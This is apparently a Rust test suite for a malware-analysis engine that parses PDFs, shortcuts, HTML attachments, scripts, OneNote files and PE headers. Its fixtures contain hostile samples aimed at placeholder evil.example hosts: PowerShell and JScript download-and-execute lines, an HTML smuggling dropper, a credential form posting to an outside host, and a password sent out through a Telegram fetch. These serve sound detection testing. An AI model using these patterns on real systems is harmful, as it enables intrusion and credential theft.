//! Document and script parsers: PDF (object reader and byte scan), shortcuts, HTML attachments
//! (smuggling, credential forms, redirects), scripts (Script Encoder, PowerShell encoded
//! commands), OneNote embedded files, PE headers. Fixtures are built here
//! (`common/documents.rs`).

#[path = "common/documents.rs"]
mod build;

use analysis::{Engine, Input};
use build::{Link, catalog, pdf, stream, zlib};
use model::report::{Artifact, Report};
use model::{AnomalyKind, VerdictClass};

fn analyze(name: &str, data: &[u8]) -> Report {
    Engine::with_defaults().analyze_object(Some(name), data, &Input::default())
}

fn has(r: &Report, signal: &str, at: &str) -> bool {
    r.findings.iter().any(|f| f.signal == signal && f.at == at)
}

fn assert_has(r: &Report, signal: &str, at: &str) {
    assert!(has(r, signal, at), "no {signal} at {at}: {:#?}", r.findings);
}

fn url_from<'r>(r: &'r Report, url: &str) -> &'r [String] {
    r.urls
        .iter()
        .find(|u| u.url == url)
        .map(|u| u.sources.as_slice())
        .unwrap_or_else(|| panic!("no url {url}: {:#?}", r.urls))
}

fn child<'r>(r: &'r Report, name: &str) -> &'r Artifact {
    r.artifacts
        .iter()
        .find(|a| a.name.as_deref() == Some(name))
        .unwrap_or_else(|| panic!("no child {name}: {:#?}", r.artifacts))
}

// ---- PDF ----------------------------------------------------------------------------------

#[test]
fn pdf_open_action_javascript_is_reported_with_its_code() {
    let mut objs = catalog("/OpenAction 4 0 R");
    objs.push(
        br#"<< /Type /Action /S /JavaScript /JS (app.launchURL\("http://evil.example/js"\);) >>"#
            .to_vec(),
    );
    let r = analyze("invoice.pdf", &pdf(&objs));
    let info = r.artifacts[0].pdf.as_ref().expect("pdf info");
    assert!(!info.malformed, "{:#?}", r.anomalies);
    assert!(info.open_action);
    assert_eq!(
        info.javascript,
        vec![r#"app.launchURL("http://evil.example/js");"#]
    );
    assert_has(&r, "pdf.javascript", "artifacts[0]");
    assert_has(&r, "pdf.open-action", "artifacts[0]");
    assert!(url_from(&r, "http://evil.example/js").contains(&"artifacts[0].script".to_string()));
    assert!(
        r.verdict
            .reasons
            .iter()
            .any(|x| x.rule == "pdf-active-content")
    );
}

#[test]
fn pdf_uri_and_launch_targets_are_listed_and_urls_recorded() {
    let objs = vec![
        b"<< /Type /Catalog /Pages 2 0 R >>".to_vec(),
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_vec(),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Annots [4 0 R 5 0 R] >>".to_vec(),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (http://evil.example/login) >> >>".to_vec(),
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >> >>".to_vec(),
    ];
    let r = analyze("doc.pdf", &pdf(&objs));
    let info = r.artifacts[0].pdf.as_ref().expect("pdf info");
    assert_eq!(info.uris, vec!["http://evil.example/login"]);
    assert_eq!(info.launch, vec!["cmd.exe /c calc.exe"]);
    assert_has(&r, "pdf.uri", "artifacts[0]");
    assert_has(&r, "pdf.launch", "artifacts[0]");
    assert_eq!(
        url_from(&r, "http://evil.example/login"),
        ["artifacts[0].pdf-uri".to_string()]
    );
    assert!(!has(&r, "pdf.javascript", "artifacts[0]"));
}

#[test]
fn pdf_embedded_file_is_decoded_and_analysed_as_a_child() {
    let script = b"var s = new ActiveXObject('WScript.Shell'); s.Run('calc.exe');";
    let mut objs = catalog("/Names << /EmbeddedFiles << /Names [(invoice.js) 4 0 R] >> >>");
    objs.push(
        b"<< /Type /Filespec /F (invoice.js) /UF (invoice.js) /EF << /F 5 0 R >> >>".to_vec(),
    );
    objs.push(stream(
        "/Type /EmbeddedFile /Filter /FlateDecode",
        &zlib(script),
    ));
    let r = analyze("statement.pdf", &pdf(&objs));
    let js = child(&r, "invoice.js");
    assert_eq!(js.parent, Some(0));
    assert_eq!(js.kind, "script-js");
    assert_eq!(js.size, script.len() as u64);
    let info = r.artifacts[0].pdf.as_ref().expect("pdf info");
    assert_eq!(info.embedded_files, vec!["invoice.js"]);
    assert_has(&r, "pdf.embedded-file", "artifacts[0]");
    assert_has(&r, "script.execute", &format!("artifacts[{}]", js.index));
    assert_eq!(r.verdict.class, VerdictClass::Malware);
}

#[test]
fn broken_pdf_refused_by_the_object_reader_still_shows_its_javascript() {
    let data = b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> garbage";
    let r = analyze("broken.pdf", data);
    let info = r.artifacts[0].pdf.as_ref().expect("pdf info");
    assert!(info.malformed, "lopdf accepted the broken file");
    assert!(info.open_action);
    assert_eq!(info.javascript, vec!["app.alert(1)"]);
    assert_has(&r, "pdf.javascript", "artifacts[0]");
    assert!(
        r.anomalies
            .iter()
            .any(|a| a.kind == AnomalyKind::MalformedContent)
    );
}

#[test]
fn pdf_javascript_inside_a_compressed_object_stream_is_found_by_the_byte_scan() {
    // The action lives only inside a Flate stream that no dictionary points to.
    let mut objs = catalog("");
    objs.push(stream(
        "/Filter /FlateDecode",
        &zlib(b"<< /S /JavaScript /JS (this.print\\(\\)) >>"),
    ));
    let r = analyze("packed.pdf", &pdf(&objs));
    let info = r.artifacts[0].pdf.as_ref().expect("pdf info");
    assert_eq!(info.javascript, vec!["this.print()"]);
    assert_has(&r, "pdf.javascript", "artifacts[0]");
}

#[test]
fn pdf_names_hidden_with_hex_escapes_are_decoded() {
    let objs = catalog("/OpenAction << /S /JavaScript /J#53 (app.alert\\(2\\)) >>");
    let r = analyze("escaped.pdf", &pdf(&objs));
    assert_has(&r, "pdf.javascript", "artifacts[0]");
    assert_has(&r, "pdf.name-obfuscation", "artifacts[0]");
}

// ---- LNK ----------------------------------------------------------------------------------

#[test]
fn shortcut_running_powershell_download_is_malware() {
    let data = build::lnk(&Link {
        arguments: Some("-w hidden -c iwr http://evil.example/a.ps1"),
        icon: Some("%SystemRoot%\\System32\\shell32.dll"),
        env_target: Some("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"),
        machine_id: Some("desktop-evil01"),
        ..Link::default()
    });
    let r = analyze("invoice.pdf.lnk", &data);
    assert_eq!(r.artifacts[0].kind, "lnk");
    let info = r.artifacts[0].lnk.as_ref().expect("lnk info");
    assert_eq!(
        info.target.as_deref(),
        Some("%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe")
    );
    assert_eq!(
        info.arguments.as_deref(),
        Some("-w hidden -c iwr http://evil.example/a.ps1")
    );
    assert_eq!(info.machine_id.as_deref(), Some("desktop-evil01"));
    assert_eq!(
        info.icon_location.as_deref(),
        Some("%SystemRoot%\\System32\\shell32.dll")
    );
    assert_has(&r, "lnk.command", "artifacts[0]");
    assert!(!has(&r, "lnk.long-arguments", "artifacts[0]"));
    assert_eq!(
        url_from(&r, "http://evil.example/a.ps1"),
        ["artifacts[0].lnk".to_string()]
    );
    assert_eq!(r.verdict.class, VerdictClass::Malware);
}

#[test]
fn shortcut_arguments_padded_past_the_dialog_are_flagged() {
    let args = format!("{}/c start calc.exe", " ".repeat(300));
    let data = build::lnk(&Link {
        relative_path: Some("..\\..\\Windows\\System32\\cmd.exe"),
        working_dir: Some("C:\\Windows"),
        arguments: Some(&args),
        ..Link::default()
    });
    let r = analyze("photo.lnk", &data);
    let info = r.artifacts[0].lnk.as_ref().expect("lnk info");
    assert_eq!(
        info.target.as_deref(),
        Some("..\\..\\Windows\\System32\\cmd.exe")
    );
    assert_eq!(info.working_dir.as_deref(), Some("C:\\Windows"));
    assert_has(&r, "lnk.long-arguments", "artifacts[0]");
    assert_has(&r, "lnk.command", "artifacts[0]");
}

#[test]
fn harmless_shortcut_earns_no_command_finding() {
    let data = build::lnk(&Link {
        relative_path: Some("..\\Documents\\report.docx"),
        ..Link::default()
    });
    let r = analyze("report.lnk", &data);
    assert!(r.artifacts[0].lnk.is_some());
    assert!(!has(&r, "lnk.command", "artifacts[0]"), "{:#?}", r.findings);
}

// ---- HTML ---------------------------------------------------------------------------------

/// A page that rebuilds `invoice.zip` (holding a padded script) from base64 cut in two.
fn smuggling_page() -> (String, Vec<u8>) {
    let mut js = b"WScript.CreateObject('WScript.Shell').Run('calc');\n//".to_vec();
    js.extend(std::iter::repeat_n(b'x', 5000));
    let zip = build::zip(&[("invoice.js", &js)]);
    let b64 = build::base64(&zip);
    let (a, b) = b64.split_at(b64.len() / 2);
    let page = format!(
        r#"<!DOCTYPE html><html><head><title>Invoice</title></head><body><p>Loading...</p>
<script>
var data = "{a}" +
  "{b}";
var bin = atob(data); var bytes = new Uint8Array(bin.length);
for (var i = 0; i < bin.length; i++) {{ bytes[i] = bin.charCodeAt(i); }}
var blob = new Blob([bytes], {{type: 'application/zip'}});
var link = document.createElement('a');
link.href = URL.createObjectURL(blob); link.download = 'invoice.zip'; link.click();
</script></body></html>"#
    );
    (page, zip)
}

#[test]
fn html_smuggling_page_yields_its_zip_as_a_child() {
    let (page, zip) = smuggling_page();
    let r = analyze("invoice.html", page.as_bytes());
    assert_eq!(r.artifacts[0].kind, "html");
    let info = r.artifacts[0].html.as_ref().expect("html info");
    for s in [
        "atob",
        "blob",
        "createObjectURL",
        "download-attribute",
        "base64-payload",
    ] {
        assert!(
            info.smuggling.iter().any(|x| x == s),
            "{s} missing: {:?}",
            info.smuggling
        );
    }
    assert_eq!(info.scripts, 1);
    assert_has(&r, "html.smuggling", "artifacts[0]");
    let payload = r
        .artifacts
        .iter()
        .find(|a| a.parent == Some(0))
        .expect("smuggled child");
    assert_eq!(payload.kind, "zip");
    assert_eq!(payload.size, zip.len() as u64);
    assert!(
        r.artifacts
            .iter()
            .any(|a| a.name.as_deref() == Some("invoice.js"))
    );
    assert_eq!(r.verdict.class, VerdictClass::Malware);
}

#[test]
fn large_binary_data_uri_is_decoded_as_a_child() {
    let payload = build::pe(false, false).repeat(16);
    let page = format!(
        r#"<html><body><a href="data:application/octet-stream;base64,{}" download="setup.exe">Download</a></body></html>"#,
        build::base64(&payload)
    );
    let r = analyze("setup.html", page.as_bytes());
    let info = r.artifacts[0].html.as_ref().expect("html info");
    assert!(
        info.smuggling.iter().any(|s| s == "data-uri-large"),
        "{:?}",
        info.smuggling
    );
    assert_has(&r, "html.smuggling", "artifacts[0]");
    let c = child(&r, "data-uri-0");
    assert_eq!(c.size, payload.len() as u64);
    assert_eq!(c.kind, "pe");
}

#[test]
fn credential_form_posting_to_another_host_is_phishing() {
    let page = r#"<html><head><title>Sign in</title></head><body>
<form action="https://collector.evil.example/owa/login.php" method="POST">
<input type="email" name="login"><input type="password" name="passwd"><input type="submit">
</form><img src="https://cdn.evil.example/logo.png"></body></html>"#;
    let r = analyze("secure-message.htm", page.as_bytes());
    let info = r.artifacts[0].html.as_ref().expect("html info");
    assert_eq!(info.forms.len(), 1);
    assert!(info.forms[0].password_field);
    assert_eq!(info.forms[0].method, "post");
    assert_eq!(
        info.forms[0].action,
        "https://collector.evil.example/owa/login.php"
    );
    assert_has(&r, "html.credential-form", "artifacts[0]");
    assert!(
        url_from(&r, "https://collector.evil.example/owa/login.php")
            .contains(&"artifacts[0].action".to_string())
    );
    assert!(
        url_from(&r, "https://cdn.evil.example/logo.png").contains(&"artifacts[0].src".to_string())
    );
    assert!(!has(&r, "html.smuggling", "artifacts[0]"));
    assert_eq!(r.verdict.class, VerdictClass::Phishing);
}

#[test]
fn password_sent_by_script_counts_as_a_credential_form() {
    let page = r#"<html><body><input type="password" id="p"><button onclick="go()">OK</button>
<script>function go(){ fetch("https://api.telegram.org/bot1/sendMessage?text=" + p.value); }</script>
</body></html>"#;
    let r = analyze("login.html", page.as_bytes());
    assert_has(&r, "html.credential-form", "artifacts[0]");
}

#[test]
fn refresh_and_script_redirects_are_reported() {
    let page = r#"<html><head><meta http-equiv="refresh" content="0; URL='https://landing.evil.example/a?x=1&amp;y=2'"></head>
<body><script>window.location.href = "https://second.evil.example/b";</script>
<iframe src="https://frame.evil.example/c"></iframe></body></html>"#;
    let r = analyze("document.html", page.as_bytes());
    let info = r.artifacts[0].html.as_ref().expect("html info");
    assert_eq!(
        info.redirects,
        vec![
            "https://landing.evil.example/a?x=1&y=2",
            "https://second.evil.example/b"
        ]
    );
    assert_has(&r, "html.redirect", "artifacts[0]");
    assert_has(&r, "html.iframe", "artifacts[0]");
    assert!(
        url_from(&r, "https://landing.evil.example/a?x=1&y=2")
            .contains(&"artifacts[0].refresh".to_string())
    );
    assert!(
        r.verdict
            .reasons
            .iter()
            .any(|x| x.rule == "html-attachment-redirect")
    );
}

#[test]
fn document_write_of_unescaped_text_is_obfuscation() {
    let page =
        r#"<html><script>document.write(unescape('%3C%69%66%72%61%6D%65%3E'));</script></html>"#;
    let r = analyze("x.html", page.as_bytes());
    assert_has(&r, "html.obfuscated-script", "artifacts[0]");
}

#[test]
fn mail_with_an_html_smuggling_attachment_is_malware() {
    let (page, _) = smuggling_page();
    let b64 = build::base64(page.as_bytes());
    let lines: Vec<&str> = b64
        .as_bytes()
        .chunks(76)
        .map(|c| std::str::from_utf8(c).unwrap_or_default())
        .collect();
    let mail = format!(
        "From: Billing <billing@vendor.example>\r\nTo: trap@trap.example\r\nSubject: Invoice 4711\r\n\
MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"b1\"\r\n\r\n--b1\r\n\
Content-Type: text/plain; charset=utf-8\r\n\r\nPlease find the invoice attached.\r\n--b1\r\n\
Content-Type: text/html; name=\"invoice.html\"\r\nContent-Disposition: attachment; filename=\"invoice.html\"\r\n\
Content-Transfer-Encoding: base64\r\n\r\n{}\r\n--b1--\r\n",
        lines.join("\r\n")
    );
    let r = Engine::with_defaults().analyze(mail.as_bytes(), &Input::default());
    let html = child(&r, "invoice.html");
    assert_has(&r, "html.smuggling", &format!("artifacts[{}]", html.index));
    assert!(
        r.artifacts
            .iter()
            .any(|a| a.kind == "zip" && a.parent == Some(html.index))
    );
    assert_eq!(r.verdict.class, VerdictClass::Malware, "{:#?}", r.verdict);
}

// ---- scripts ------------------------------------------------------------------------------

#[test]
fn script_encoded_jse_is_decoded_and_its_markers_found() {
    let plain = "var sh = new ActiveXObject(\"WScript.Shell\");\r\n\
var x = new ActiveXObject(\"MSXML2.XMLHTTP\");\r\n\
x.open(\"GET\", \"http://evil.example/p.exe\", false); x.send();\r\n\
if (x.status == 200 && 1 < 2) { sh.Run(\"cmd /c p.exe\"); }\r\n";
    let encoded = build::script_encode(plain);
    assert!(!encoded.contains("WScript"));
    let r = analyze("invoice.jse", encoded.as_bytes());
    assert_eq!(r.artifacts[0].kind, "script-jse");
    assert_has(&r, "script.encoded", "artifacts[0]");
    assert_has(&r, "script.download", "artifacts[0]");
    assert_has(&r, "script.execute", "artifacts[0]");
    assert_eq!(
        url_from(&r, "http://evil.example/p.exe"),
        ["artifacts[0].script".to_string()]
    );
    assert_eq!(r.verdict.class, VerdictClass::Malware);
}

#[test]
fn powershell_encoded_command_is_decoded_and_searched() {
    let inner =
        "iwr http://evil.example/p.exe -OutFile $env:TEMP\\p.exe; Start-Process $env:TEMP\\p.exe";
    let utf16: Vec<u8> = inner.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let bat = format!(
        "@echo off\r\npowershell -nop -w hidden -enc {}\r\n",
        build::base64(&utf16)
    );
    let r = analyze("run.bat", bat.as_bytes());
    assert_has(&r, "script.encoded-command", "artifacts[0]");
    assert_has(&r, "script.download", "artifacts[0]");
    assert_has(&r, "script.execute", "artifacts[0]");
    url_from(&r, "http://evil.example/p.exe");
}

#[test]
fn plain_script_without_markers_has_no_download_or_execute_finding() {
    let r = analyze("hello.js", b"WScript.Echo('hello ' + (1 + 2));\n");
    assert_has(&r, "attachment.script", "artifacts[0]");
    assert!(!has(&r, "script.download", "artifacts[0]"));
    assert!(!has(&r, "script.execute", "artifacts[0]"));
    assert!(!has(&r, "script.obfuscated", "artifacts[0]"));
}

#[test]
fn script_built_from_char_codes_is_obfuscated() {
    let codes: Vec<String> = (0..80)
        .map(|i| format!("String.fromCharCode({})", 97 + i % 26))
        .collect();
    let js = format!("var s = {};\neval(s);\n", codes.join(" + "));
    let r = analyze("a.js", js.as_bytes());
    assert_has(&r, "script.obfuscated", "artifacts[0]");
}

// ---- OneNote ------------------------------------------------------------------------------

#[test]
fn onenote_embedded_hta_is_extracted_and_analysed() {
    let png = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0";
    let hta = b"<html><head><HTA:APPLICATION ID=\"x\" WINDOWSTATE=\"minimize\"></head>\
<script language=\"VBScript\">CreateObject(\"WScript.Shell\").Run \"powershell -c iwr http://evil.example/o.ps1 | iex\", 0</script></html>";
    let r = analyze("notes.one", &build::onenote(&[png, hta]));
    assert_eq!(r.artifacts[0].kind, "onenote");
    let picture = child(&r, "embedded-0");
    assert_eq!(picture.kind, "image");
    let payload = child(&r, "embedded-1");
    assert_eq!(payload.parent, Some(0));
    assert_eq!(payload.kind, "script-hta");
    assert_eq!(payload.size, hta.len() as u64);
    let one = r
        .findings
        .iter()
        .filter(|f| f.signal == "onenote.embedded-file")
        .count();
    assert_eq!(one, 1, "only the non-picture counts: {:#?}", r.findings);
    let at = format!("artifacts[{}]", payload.index);
    assert_has(&r, "script.execute", &at);
    assert_has(&r, "script.download", &at);
    assert_eq!(r.verdict.class, VerdictClass::Malware);
}

// ---- executables --------------------------------------------------------------------------

#[test]
fn pe_header_tells_dll_and_dotnet() {
    let r = analyze("update.dll", &build::pe(true, true));
    assert_eq!(r.artifacts[0].kind, "pe");
    assert_has(&r, "pe.dll", "artifacts[0]");
    assert_has(&r, "pe.dotnet", "artifacts[0]");
    assert_has(&r, "pe.header", "artifacts[0]");
    let r = analyze("setup.exe", &build::pe(false, false));
    assert!(!has(&r, "pe.dll", "artifacts[0]"));
    assert!(!has(&r, "pe.dotnet", "artifacts[0]"));
    assert_has(&r, "attachment.executable", "artifacts[0]");
}

// ---- hostile input ------------------------------------------------------------------------

#[test]
fn truncated_and_corrupted_documents_never_panic() {
    let mut objs =
        catalog("/OpenAction 4 0 R /Names << /EmbeddedFiles << /Names [(a.js) 5 0 R] >> >>");
    objs.push(b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>".to_vec());
    objs.push(b"<< /Type /Filespec /F (a.js) /EF << /F 6 0 R >> >>".to_vec());
    objs.push(stream(
        "/Type /EmbeddedFile /Filter /FlateDecode",
        &zlib(b"WScript.Shell"),
    ));
    let (page, _) = smuggling_page();
    let fixtures: Vec<(&str, Vec<u8>)> = vec![
        ("a.pdf", pdf(&objs)),
        (
            "a.lnk",
            build::lnk(&Link {
                arguments: Some("/c calc"),
                env_target: Some("cmd.exe"),
                machine_id: Some("m"),
                ..Link::default()
            }),
        ),
        ("a.html", page.into_bytes()),
        (
            "a.jse",
            build::script_encode("WScript.Shell\r\n").into_bytes(),
        ),
        ("a.one", build::onenote(&[b"<script>x</script>"])),
        ("a.exe", build::pe(true, true)),
    ];
    for (name, data) in &fixtures {
        let step = (data.len() / 60).max(1);
        for cut in (0..data.len()).step_by(step) {
            let mut d = data[..cut].to_vec();
            let r = analyze(name, &d);
            assert!(
                !r.anomalies
                    .iter()
                    .any(|a| a.kind == AnomalyKind::ParserPanic),
                "{name} cut at {cut}: {:#?}",
                r.anomalies
            );
            // Flip a byte too: lengths and offsets read from the input must stay checked.
            if let Some(b) = d.get_mut(cut / 2) {
                *b ^= 0xFF;
            }
            let r = analyze(name, &d);
            assert!(
                !r.anomalies
                    .iter()
                    .any(|a| a.kind == AnomalyKind::ParserPanic),
                "{name} flipped at {}: {:#?}",
                cut / 2,
                r.anomalies
            );
        }
    }
}
